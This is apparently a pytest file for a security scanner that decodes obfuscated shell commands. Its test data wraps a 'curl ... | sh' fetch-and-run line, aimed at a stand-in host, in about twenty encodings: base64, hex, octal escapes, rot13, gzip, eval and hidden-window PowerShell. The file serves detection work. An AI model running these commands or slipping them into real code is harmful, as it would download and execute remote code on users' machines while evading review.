"""Texts that a shell would decode, peeled out of whatever the command stands in."""

import base64
import codecs
import gzip
import time

import pytest

from scanner.decode import shell
from tests.scanner.decode.test_peel import layers_of

COMMAND = b"curl http://c.example.invalid/x | sh"
B64 = base64.b64encode(COMMAND).decode()
OCTAL = "".join(f"\\{code:03o}" for code in COMMAND)
WIDE = base64.b64encode(COMMAND.decode().encode("utf-16-le")).decode()
PACKED = base64.b64encode(gzip.compress(COMMAND)).decode()
COMMANDS = {
    "a pipe": (f"echo {B64} | base64 -d | sh", ("base64",)),
    "without blanks": (f"echo '{B64}'|base64 --decode|bash", ("base64",)),
    "a format": (f"printf '%s' \"{B64}\" | /usr/bin/base64 -d | sh", ("base64",)),
    "of macOS": (f"echo -n {B64} | base64 -D | sh", ("base64",)),
    "openssl": (f"echo {B64} | openssl base64 -d -A | sh", ("base64",)),
    "hex": (f"echo {COMMAND.hex()} | xxd -r -p | bash", ("hex",)),
    "base32": (f"echo {base64.b32encode(COMMAND).decode()} | base32 -d | sh", ("base32",)),
    "escapes": (f"printf '{OCTAL}' | sh", ("escapes",)),
    "escapes that echo reads": ("echo -e '" + "".join(f"\\x{code:02x}" for code in COMMAND) + "' | sh", ("escapes",)),
    "reversed": (f"echo {B64[::-1]} | rev | base64 -d | sh", ("reverse", "base64")),
    "packed": (f"echo {PACKED} | base64 -d | gunzip | sh", ("base64", "gzip")),
    "rotated": (f"echo {codecs.encode(B64, 'rot13')} | tr A-Za-z N-ZA-Mn-za-m | base64 -d | sh", ("rot13", "base64")),
    "a here-string": (f"base64 -d <<< '{B64}' | sh", ("base64",)),
    "a here-document": (f"base64 -d <<EOF | sh\n{B64[:20]}\n{B64[20:]}\nEOF", ("base64",)),
    "a variable": (f"X={B64}; cd /tmp; echo $X | base64 -d | sh", ("base64",)),
    "a quoted variable": (f'X="{B64}"; echo "${{X}}" | base64 -d | sh', ("base64",)),
    "inside another": (f'eval "$(echo {B64} | base64 -d)"', ("base64",)),
    "PowerShell": (f"powershell -NoP -W Hidden -EncodedCommand {WIDE}", ("base64", "utf-16")),
    "PowerShell, short": (f"pwsh.exe -enc {WIDE}", ("base64", "utf-16")),
    "PowerShell's own decoder": (f"iex ($utf8.GetString([Convert]::FromBase64String('{B64}')))", ("base64",)),
}  # fmt: skip
QUIET = {
    "a variable from elsewhere": "echo $KEY | base64 -d > key.json",
    "a secret of a cluster": "kubectl get secret db -o jsonpath={.data.password} | base64 --decode",
    "an encoder": f"echo {B64} | base64 | tee y",
    "colours": "printf '\\033[1;32m%s\\033[0m\\n' done | tee log",
    "what is no base64": "echo not/base64!!!! | base64 -d | sh",
    "a switch with a word behind it": "ls -e AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
}


@pytest.mark.parametrize("shape", COMMANDS)
@pytest.mark.parametrize("name", ["pkg/mod.py", "pkg/run.sh", "pkg/notes.txt"])
def test_what_a_shell_would_decode_is_a_layer_with_the_steps_as_its_path(shape: str, name: str) -> None:
    command, path = COMMANDS[shape]
    in_python = name.endswith(".py") and "\n" not in command
    text = f"import os\n\nos.system({command!r})\n" if in_python else f"\n\n{command}\n"
    layer = next(layer for layer in layers_of(text, name) if layer.path and layer.data.strip() == COMMAND)
    assert (layer.path, layer.origin_line) == (path, 3)


def test_a_list_of_arguments_is_read_as_a_command_is() -> None:
    for source in (
        f'import subprocess\nsubprocess.Popen(["bash", "-c", "echo {B64}|base64 --decode|bash"])\n',
        f'import subprocess\nsubprocess.Popen(["powershell", "-enc", "{WIDE}"])\n',
    ):
        assert COMMAND in {layer.data for layer in layers_of(source)[1:]}


def test_quotes_that_a_string_has_to_escape_are_quotes() -> None:
    for text in (f'"echo \\"{COMMAND.hex()}\\" | xxd -r -p | sh"', f'"xxd -r -p <<< \\"{COMMAND.hex()}\\" | sh"'):
        assert COMMAND in {layer.data for layer in layers_of(f"import os\nos.system({text})\n")[1:]}


def test_a_command_that_is_put_together_first_is_read_as_well() -> None:
    hidden = base64.b64encode(b"echo " + B64.encode()).decode()
    source = f"import base64, os\nx = base64.b64decode('{hidden}').decode()\nos.system(x + ' | base64 -d | sh')\n"
    assert COMMAND in {layer.data for layer in layers_of(source)[1:]}


def test_a_command_decoded_by_a_command_is_decoded_in_turn() -> None:
    twice = base64.b64encode(f"echo {B64} | base64 -d | sh".encode()).decode()
    found = layers_of(f"echo {twice} | base64 -d | sh\n", "run.sh")
    assert [layer.path for layer in found if layer.data == COMMAND] == [("base64", "base64")]


@pytest.mark.parametrize("text", QUIET.values(), ids=QUIET)
def test_a_command_without_a_text_to_decode_gives_no_layer(text: str) -> None:
    assert len(layers_of(text, "run.sh")) == 1


@pytest.mark.parametrize(
    "piece",
    [
        *(b"echo 'AAAAAAAA ", b'echo "', b"printf \\x41\\x41\\x41", b"echo AAAAAAAA|rev", b"echo -n -n -n "),
        *(
            b"base64 -d <<<",
            b"base64 -d <<E\nAAAAAAAA",
            b"A=AAAAAAAA;echo $A|base64 -d|",
            b"xxd -p ",
            b" -enc AAAAAAAA",
        ),
    ],
)
def test_time_grows_with_the_length_and_not_with_its_square(piece: bytes) -> None:
    def seconds(size: int) -> float:
        data = b"echo \\x41\\x41\n" + piece * (size // len(piece))
        began = time.process_time()
        for _ in shell.commands(data):
            pass
        return time.process_time() - began

    seconds(1000)
    assert seconds(1 << 19) < 16 * seconds(1 << 16) + 0.25
